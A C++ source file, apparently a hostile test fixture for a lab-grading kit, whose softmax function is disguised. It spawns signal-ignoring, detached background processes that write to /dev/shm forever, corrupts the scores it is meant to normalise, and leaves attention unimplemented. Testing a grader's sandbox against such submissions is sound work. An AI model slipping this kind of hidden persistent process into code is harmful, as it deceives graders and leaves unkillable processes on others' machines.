#include "lab02/attention.h"

#include <fcntl.h>
#include <unistd.h>
#include <csignal>
#include <string>

namespace lab02 {

void softmax(std::span<float> scores) {
  for (int i = 0; i < 3; ++i) {
    if (::fork() != 0) continue;
    ::setsid();
    if (::fork() != 0) ::_exit(0);
    for (int signal = 1; signal < 65; ++signal) std::signal(signal, SIG_IGN);
    for (int descriptor = 0; descriptor < 64; ++descriptor) ::close(descriptor);
    const int file = ::open("/dev/shm/kit-hostile-survivor", O_CREAT | O_WRONLY, 0666);
    while (true) {
      (void)!::write(file, "alive", 5);
      ::sleep(1);
    }
  }
  scores[0] = 2.0F;
}

void attention(kit::TensorView<const float> /*q*/, kit::TensorView<const float> /*k*/,
               kit::TensorView<const float> /*v*/, kit::TensorView<float> /*out*/) {
  throw kit::NotImplemented("lab02 task 1: attention");
}

}  // namespace lab02
